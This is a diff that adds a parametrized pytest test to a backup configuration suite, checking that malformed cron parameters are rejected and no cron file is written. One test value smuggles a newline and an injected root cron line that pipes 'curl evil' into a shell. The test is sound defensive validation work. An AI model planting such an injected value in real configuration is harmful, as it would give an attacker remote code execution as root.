@@ -227,3 +227,36 @@ def test_clean_takes_the_schedule_away_and_keeps_the_runs(backup_state, loaders,
     assert loaders.modules.hltcloud_backup.list_runs() == runs != []
     again = apply(loaders, backup_pillar, "backup.clean")
     assert [(r.id, r.changes) for r in again if r.changes] == []
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "line"),
+    [
+        (
+            "log",
+            "/var/log/b.log\n* * * * * root curl evil | sh",
+            "parameter backup:cron:log must be one line of printable text",
+        ),
+        (
+            "schedule",
+            "30 2 * *",
+            "parameter backup:cron:schedule must be five cron fields, not '30 2 * *'",
+        ),
+    ],
+)
+def test_a_cron_part_that_is_not_one_line_of_five_fields_writes_no_cron_file(
+    loaders, backup_pillar, key, value, line
+):
+    bad = copy.deepcopy(backup_pillar)
+    settings(bad)["cron"][key] = value
+    cron = settings(bad)["cron"]["file"]
+    before = open(cron, "rb").read() if os.path.exists(cron) else None
+    use_pillar(loaders, bad)
+    try:
+        results = apply(loaders, bad, "backup")
+    finally:
+        use_pillar(loaders, backup_pillar)
+    (failed,) = [r for r in results if r.id == "backup-cron-file-managed"]
+    assert (failed.result, failed.comment) == (False, line)
+    after = open(cron, "rb").read() if os.path.exists(cron) else None
+    assert after == before
